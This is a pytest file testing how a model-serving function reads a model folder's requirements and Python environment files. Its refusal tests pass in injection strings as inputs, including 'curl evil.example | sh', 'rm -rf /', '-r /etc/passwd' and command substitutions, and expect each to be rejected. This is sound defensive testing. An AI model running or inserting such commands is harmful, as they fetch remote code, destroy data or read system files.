"""What a model folder may ask to have installed, and what it may not."""

from __future__ import annotations

import platform
from importlib import metadata
from pathlib import Path

import pytest

from mlflow.exceptions import InvalidParameterValue
from mlflow.serving.environments import read_environment


def folder(tmp_path: Path, requirements: str, **files: str) -> Path:
    """A model folder with these environment files."""
    (tmp_path / "requirements.txt").write_text(requirements)
    for name, text in files.items():
        (tmp_path / name.replace("__", ".")).write_text(text)
    return tmp_path


def test_what_is_installed_satisfies(tmp_path: Path) -> None:
    here = metadata.version("numpy")
    wanted = read_environment(
        folder(
            tmp_path,
            f"mlflow==3.6.0\nnumpy=={here}\n# a remark\n",
            python_env__yaml=f"python: {platform.python_version()}",
        )
    )
    assert [each.name for each in wanted.requirements] == ["numpy"] and wanted.unmet() == []


def test_what_is_not_is_named(tmp_path: Path) -> None:
    wanted = read_environment(
        folder(
            tmp_path,
            'numpy==0.1\nno-such-package\ncolorama; sys_platform == "nowhere"',
            python_env__yaml="python: 2.7.1",
        )
    )
    assert [reason.split(" (")[0] for reason in wanted.unmet()] == ["Python 2.7.1", "numpy==0.1", "no-such-package"]
    assert wanted.replaced(["numpy"]).unmet() != wanted.unmet()


@pytest.mark.parametrize(
    "line",
    [
        "numpy; curl evil.example | sh; #",
        "numpy && rm -rf /",
        "$(touch x)",
        "`touch x`",
        "--index-url https://evil.example/simple numpy",
        "-r /etc/passwd",
        "-c ../../constraints.txt",
        "-e .",
        "../package",
        "numpy\x00",
    ],
)
def test_a_line_that_is_no_requirement_is_refused(line: str, tmp_path: Path) -> None:
    with pytest.raises(InvalidParameterValue, match="refused"):
        read_environment(folder(tmp_path, line))
    (tmp_path / "requirements.txt").unlink()
    (tmp_path / "python_env.yaml").write_text('dependencies: ["' + line.replace("\x00", "\\0") + '"]')
    with pytest.raises(InvalidParameterValue, match="refused"):
        read_environment(tmp_path)


@pytest.mark.parametrize("python", ["3.11; rm -rf /", "/bin/sh", "--help", "3"])
def test_a_python_that_is_no_version_is_refused(python: str, tmp_path: Path) -> None:
    with pytest.raises(InvalidParameterValue, match="no version"):
        read_environment(folder(tmp_path, "", python_env__yaml=f'python: "{python}"'))


def test_constraints_of_the_model_itself(tmp_path: Path) -> None:
    wanted = read_environment(folder(tmp_path, "numpy\n-c constraints.txt", constraints__txt="pandas<9"))
    assert [str(each) for each in wanted.constraints] == ["pandas<9"]


def test_a_conda_environment(tmp_path: Path) -> None:
    (tmp_path / "conda.yaml").write_text("dependencies:\n- python=3.9.1\n- pip\n- pip:\n  - numpy<2\n  - mlflow\n")
    wanted = read_environment(tmp_path)
    assert wanted.python == "3.9.1" and [str(each) for each in wanted.requirements] == ["numpy<2"]


def test_equal_wishes_share_an_environment(tmp_path: Path) -> None:
    one = read_environment(folder(tmp_path, "numpy<9\npandas"))
    two = read_environment(folder(tmp_path, "pandas\nmlflow\nnumpy<9"))
    assert one.wanted() == two.wanted() != one.replaced(["numpy<8"]).wanted()
